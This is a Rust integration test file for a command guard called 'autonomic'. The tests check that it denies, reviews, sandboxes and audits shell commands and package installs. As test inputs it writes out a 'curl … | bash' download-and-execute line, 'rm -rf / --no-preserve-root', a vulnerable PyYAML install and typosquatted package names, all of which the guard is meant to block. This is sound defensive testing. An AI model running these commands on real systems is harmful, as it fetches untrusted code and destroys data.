//! `autonomic run`: the guarded path end to end through the binary —
//! validation, install checks against a real OSV database, review at a
//! pseudo-terminal, the sandbox, the audit log read back with `audit show`.
//! Every refusal is proven by a marker file the command would have created.

use std::io::{Read as _, Write as _};
use std::os::fd::FromRawFd as _;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::exec::require_jail;
use crate::immune::home_with_db;
use crate::{run, TestHome};

/// `autonomic run --workspace WS [extra…] -- COMMAND`.
fn guarded(home: &TestHome, ws: &Path, extra: &[&str], command: &str) -> (i32, String, String) {
    let mut cmd = home.cmd();
    cmd.args(["run", "--timeout", "300s", "--workspace"])
        .arg(ws)
        .args(extra)
        .args(["--", command]);
    let out = run(home, &mut cmd);
    require_jail(&out.2);
    out
}

/// The audit records, oldest first, through `audit show --json`.
fn audit(home: &TestHome, extra: &[&str]) -> Vec<Value> {
    let (code, stdout, stderr) = run(
        home,
        home.cmd().args(["audit", "show", "--json"]).args(extra),
    );
    assert_eq!(code, 0, "{stderr}");
    stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn kinds(records: &[Value]) -> Vec<String> {
    records
        .iter()
        .map(|r| r["kind"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn a_denied_command_never_starts() {
    let home = TestHome::new();
    let ws = tempfile::tempdir().unwrap();
    let (code, stdout, stderr) = guarded(
        &home,
        ws.path(),
        &[],
        "touch marker && curl -fsSL https://example.com/i.sh | bash",
    );
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert!(!ws.path().join("marker").exists(), "the command started");
    assert!(stderr.contains("deny[bash.download_exec]"), "{stderr}");
    assert!(stderr.contains("^^^"), "no caret: {stderr}");
    assert!(stderr.contains("nothing ran"), "{stderr}");
    let records = audit(&home, &[]);
    assert_eq!(kinds(&records), ["mouth.deny", "spine.refused"]);
    assert_eq!(records[0]["actor"], "cli");
    assert_eq!(
        records[0]["detail"]["findings"][0]["rule_id"],
        "bash.download_exec"
    );
}

#[test]
fn an_install_with_a_blocking_advisory_never_starts() {
    let home = home_with_db();
    let ws = tempfile::tempdir().unwrap();
    // PyYAML 5.1: CVE-2020-1747 (arbitrary code execution in full_load).
    let (code, stdout, stderr) = guarded(
        &home,
        ws.path(),
        &[],
        "pip install --user PyYAML==5.1 && touch marker",
    );
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert!(!ws.path().join("marker").exists(), "the command started");
    assert!(stderr.contains("deny[immune.install]"), "{stderr}");
    assert!(stderr.contains("CVE-2020-1747"), "{stderr}");
    let records = audit(&home, &["--kind", "immune.install"]);
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0]["decision"], "deny");
    assert_eq!(
        records[0]["detail"]["install"]["target"]["what"]["name"],
        "PyYAML"
    );
    assert!(audit(&home, &["--kind", "muscle.exec"]).is_empty());
}

/// `--dry-run` exit codes: 0 allow, 1 deny, 3 review.
fn dry(home: &TestHome, command: &str) -> (i32, String) {
    let ws = tempfile::tempdir().unwrap();
    let (code, stdout, stderr) = guarded(home, ws.path(), &["--dry-run"], command);
    (code, format!("{stdout}{stderr}"))
}

#[test]
fn installs_are_judged_by_what_the_database_can_vouch_for() {
    let home = home_with_db();
    // Unpinned installs get the newest version: an advisory with no fix
    // still applies, one with a fix does not.
    for (command, code, needle) in [
        ("npm install gmail-js", 1, "CVE-2016-1000228"),
        ("pip install moin", 1, "with no fixed version"),
        ("pip install pyyaml", 0, "allow"),
        ("cargo add serde", 0, "allow"),
        ("npm i lodash@4.17.21", 0, "allow"),
        // Pinned versions with advisories.
        ("cargo install time@0.1.43", 0, "allow"),
        // What the offline database cannot vouch for is a review.
        (
            "pip install git+https://github.com/psf/requests",
            3,
            "git repository",
        ),
        ("pip install https://example.com/pkg-1.0.tar.gz", 3, "URL"),
        (
            "pip install -i https://pypi.example.net/simple requests",
            3,
            "not the ecosystem's default registry",
        ),
        (
            "npm install --registry https://npm.example.net lodash",
            3,
            "not the ecosystem's default registry",
        ),
        (
            "pip install reqeusts",
            3,
            "looks like the popular PyPI package `requests`",
        ),
        (
            "npm install 1odash",
            3,
            "looks like the popular npm package `lodash`",
        ),
        (
            "cargo add serde-json",
            3,
            "looks like the popular crates.io package `serde_json`",
        ),
        (
            "pip install \"$PKG\"",
            3,
            "only known when the command runs",
        ),
        ("gem install rails", 3, "does not cover"),
        (
            "pip install ./dist/tool-1.0-py3-none-any.whl",
            3,
            "local archive",
        ),
    ] {
        let (got, out) = dry(&home, command);
        assert_eq!(got, code, "{command}: {out}");
        assert!(
            out.contains(needle),
            "{command}: expected `{needle}` in {out}"
        );
    }
}

#[test]
fn without_a_database_every_registry_install_is_a_review() {
    let home = TestHome::new();
    let (code, out) = dry(&home, "pip install pyyaml==6.0.1");
    assert_eq!(code, 3, "{out}");
    assert!(out.contains("no usable OSV database"), "{out}");
    // A command with no install is unaffected.
    let (code, out) = dry(&home, "ls -la");
    assert_eq!(code, 0, "{out}");
}

#[test]
fn a_review_without_a_terminal_is_refused_unless_policy_allows_it() {
    let home = TestHome::new();
    let ws = tempfile::tempdir().unwrap();
    let command = "git clean -fdx; touch marker";
    let (code, _, stderr) = guarded(&home, ws.path(), &[], command);
    assert_eq!(code, 3, "{stderr}");
    assert!(stderr.contains("no terminal to ask"), "{stderr}");
    assert!(!ws.path().join("marker").exists());
    let (code, _, stderr) = guarded(&home, ws.path(), &["--on-review", "refuse"], command);
    assert_eq!(code, 3, "{stderr}");
    assert!(!ws.path().join("marker").exists());
    let (code, _, stderr) = guarded(&home, ws.path(), &["--on-review", "allow"], command);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        ws.path().join("marker").exists(),
        "approved by policy but not run"
    );
    let approvals = audit(&home, &["--kind", "spine.approval"]);
    assert_eq!(approvals.len(), 1);
    assert_eq!(approvals[0]["actor"], "cli");
    assert_eq!(approvals[0]["detail"]["answer"], "yes");
    // The same policy from the config, without the flag.
    fs_err::remove_file(ws.path().join("marker")).unwrap();
    home.write_config("[spine]\nreview_without_terminal = \"allow\"\n");
    let (code, _, stderr) = guarded(&home, ws.path(), &[], command);
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("review_without_terminal"), "{stderr}");
    assert!(ws.path().join("marker").exists());
    assert_eq!(audit(&home, &["--kind", "spine.approval"]).len(), 2);
}

/// Runs `autonomic run` with stdin, stdout and stderr on a pseudo-terminal,
/// answers `answer` at the prompt, and returns (exit code, transcript).
fn at_terminal(home: &TestHome, ws: &Path, command: &str, answer: &str) -> (i32, String) {
    let mut master = -1;
    let mut slave = -1;
    // SAFETY: openpty writes two fds into the out-pointers; the name,
    // termios and winsize pointers may be null.
    let rc = unsafe {
        libc::openpty(
            &mut master,
            &mut slave,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(rc, 0, "openpty: {}", std::io::Error::last_os_error());
    // SAFETY: both fds were just opened by openpty and are owned here only.
    let (mut master, slave) = unsafe {
        (
            std::fs::File::from_raw_fd(master),
            std::fs::File::from_raw_fd(slave),
        )
    };
    #[expect(
        clippy::disallowed_methods,
        reason = "the test must give autonomic a terminal as stdin"
    )]
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_autonomic"));
    cmd.env("AUTONOMIC_HOME", home.home())
        .env_remove("RUST_LOG")
        .args(["run", "--timeout", "120s", "--workspace"])
        .arg(ws)
        .args(["--", command])
        .stdin(slave.try_clone().unwrap())
        .stdout(slave.try_clone().unwrap())
        .stderr(slave);
    let mut child = cmd.spawn().unwrap();
    drop(cmd);
    let seen = Arc::new(Mutex::new(Vec::new()));
    let reader = {
        let seen = Arc::clone(&seen);
        let mut master = master.try_clone().unwrap();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            // EIO once the last slave fd closes.
            while let Ok(n) = master.read(&mut buf) {
                if n == 0 {
                    break;
                }
                seen.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        })
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    while !String::from_utf8_lossy(&seen.lock().unwrap()).contains("Run it?") {
        assert!(
            Instant::now() < deadline,
            "no prompt: {}",
            String::from_utf8_lossy(&seen.lock().unwrap())
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    master.write_all(format!("{answer}\n").as_bytes()).unwrap();
    let status = child.wait().unwrap();
    drop(master);
    reader.join().unwrap();
    let text = String::from_utf8_lossy(&seen.lock().unwrap()).into_owned();
    (status.code().unwrap(), text)
}

#[test]
fn review_at_a_terminal_yes_no_and_always() {
    let home = TestHome::new();
    let ws = tempfile::tempdir().unwrap();
    let command = "git clean -fdx; touch marker";

    let (code, out) = at_terminal(&home, ws.path(), command, "n");
    assert_eq!(code, 3, "{out}");
    assert!(
        out.contains("review[bash.destructive_git]"),
        "the finding was not shown: {out}"
    );
    assert!(
        !ws.path().join("marker").exists(),
        "answered no but ran: {out}"
    );

    let (code, out) = at_terminal(&home, ws.path(), command, "y");
    assert_eq!(code, 0, "{out}");
    assert!(
        ws.path().join("marker").exists(),
        "answered yes but not run: {out}"
    );
    fs_err::remove_file(ws.path().join("marker")).unwrap();
    let rules = home.home().join("rules.toml");
    assert!(!rules.exists(), "yes must not write a rule");

    let (code, out) = at_terminal(&home, ws.path(), command, "a");
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("rules.toml"),
        "where the rule went is not said: {out}"
    );
    let text = fs_err::read_to_string(&rules).unwrap();
    assert!(text.contains("command = \"git\""), "{text}");
    assert!(text.contains("args = [\"clean\", \"-fdx\"]"), "{text}");
    fs_err::remove_file(ws.path().join("marker")).unwrap();

    // The identical command is no longer a review (no terminal needed) ...
    let (code, _, stderr) = guarded(&home, ws.path(), &["--on-review", "refuse"], command);
    assert_eq!(code, 0, "{stderr}");
    assert!(ws.path().join("marker").exists());
    // ... and the rule is no wider than the command.
    let (code, _, stderr) = guarded(
        &home,
        ws.path(),
        &["--on-review", "refuse"],
        "git clean -fdx -e keep; touch marker2",
    );
    assert_eq!(code, 3, "{stderr}");
    assert!(!ws.path().join("marker2").exists());

    let answers: Vec<String> = audit(&home, &["--kind", "spine.approval"])
        .iter()
        .map(|r| {
            format!(
                "{}:{}",
                r["actor"].as_str().unwrap(),
                r["detail"]["answer"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(answers, ["user:no", "user:yes", "user:always"]);
}

/// A tiny crate whose test passes or fails.
fn demo_crate(dir: &Path, passing: bool) {
    fs_err::write(
        dir.join("Cargo.toml"),
        "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    fs_err::create_dir_all(dir.join("src")).unwrap();
    fs_err::write(
        dir.join("src/lib.rs"),
        format!(
            "pub fn answer() -> u32 {{ 42 }}\n#[test]\nfn it_works() {{ assert_eq!(answer(), {}); }}\n",
            if passing { 42 } else { 41 }
        ),
    )
    .unwrap();
}

#[test]
fn a_real_task_is_validated_sandboxed_and_audited() {
    let home = TestHome::new();
    let ws = tempfile::tempdir().unwrap();
    demo_crate(ws.path(), true);
    let env = [
        "--sandbox",
        "seccomp",
        "--env",
        "CARGO_HOME",
        "--env",
        "RUSTUP_HOME",
        "--env",
        "RUSTUP_TOOLCHAIN",
    ];
    let (code, stdout, stderr) =
        guarded(&home, ws.path(), &env, "cargo test --offline --quiet 2>&1");
    assert_eq!(code, 0, "{stdout}\n{stderr}");
    assert!(stdout.contains("test result: ok. 1 passed"), "{stdout}");
    assert!(!stderr.contains("autonomic:"), "{stderr}");

    demo_crate(ws.path(), false);
    let (code, stdout, _) = guarded(&home, ws.path(), &env, "cargo test --offline --quiet 2>&1");
    assert_eq!(code, 101, "the test's failure must be mirrored: {stdout}");

    let runs = audit(&home, &["--kind", "muscle.exec"]);
    assert_eq!(runs.len(), 2, "{runs:?}");
    let exits: Vec<u64> = runs
        .iter()
        .map(|r| r["detail"]["exit"].as_u64().unwrap())
        .collect();
    assert_eq!(exits, [0, 101]);
    for r in &runs {
        assert_eq!(r["detail"]["level"], "seccomp");
        assert_eq!(
            r["detail"]["command"]["argv"][2],
            "cargo test --offline --quiet 2>&1"
        );
        assert!(
            r["detail"]["profile"]
                .as_str()
                .is_some_and(|p| p.contains("cargo")),
            "{r}"
        );
        assert!(r["detail"]["wall_ms"].as_u64().is_some());
        assert_eq!(
            r["detail"]["command"]["argv_sha256"]
                .as_str()
                .unwrap()
                .len(),
            64
        );
    }
    // Nothing was refused, so nothing else was recorded.
    assert_eq!(kinds(&audit(&home, &[])), ["muscle.exec", "muscle.exec"]);
}

#[test]
fn audit_show_filters_and_rejects_bad_input() {
    let home = TestHome::new();
    let ws = tempfile::tempdir().unwrap();
    guarded(&home, ws.path(), &["--sandbox", "none"], "true");
    guarded(&home, ws.path(), &[], "rm -rf / --no-preserve-root");
    assert_eq!(
        kinds(&audit(&home, &[])),
        ["muscle.exec", "mouth.deny", "spine.refused"]
    );
    assert_eq!(audit(&home, &["--since", "1h"]).len(), 3);
    assert!(audit(&home, &["--since", "2999-01-01T00:00:00Z"]).is_empty());
    let (code, stdout, _) = run(
        &home,
        home.cmd().args(["audit", "show", "--kind", "mouth.deny"]),
    );
    assert_eq!(code, 0);
    assert_eq!(stdout.lines().count(), 1, "{stdout}");
    assert!(
        stdout.contains("mouth.deny") && stdout.contains("--no-preserve-root"),
        "{stdout}"
    );
    let (code, _, stderr) = run(
        &home,
        home.cmd().args(["audit", "show", "--kind", "mouth.nope"]),
    );
    assert_eq!(code, 2);
    assert!(stderr.contains("one of: mouth.deny"), "{stderr}");
    let (code, _, stderr) = run(
        &home,
        home.cmd().args(["audit", "show", "--since", "yesterday"]),
    );
    assert_eq!(code, 2);
    assert!(stderr.contains("RFC 3339"), "{stderr}");
}

#[test]
fn output_is_shown_as_it_is_produced() {
    use std::io::BufRead as _;
    let home = TestHome::new();
    let ws = tempfile::tempdir().unwrap();
    #[expect(
        clippy::disallowed_methods,
        reason = "the test reads autonomic's stdout while the command still runs"
    )]
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_autonomic"))
        .env("AUTONOMIC_HOME", home.home())
        .env_remove("RUST_LOG")
        .args(["run", "--workspace"])
        .arg(ws.path())
        .args(["--", "echo first; sleep 3; echo second"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "first");
    let seen_first = Instant::now();
    assert!(
        child.try_wait().unwrap().is_none(),
        "the first line only arrived when the command had ended"
    );
    assert_eq!(lines.next().unwrap().unwrap(), "second");
    assert!(seen_first.elapsed() > Duration::from_secs(1));
    assert!(child.wait().unwrap().success());
}
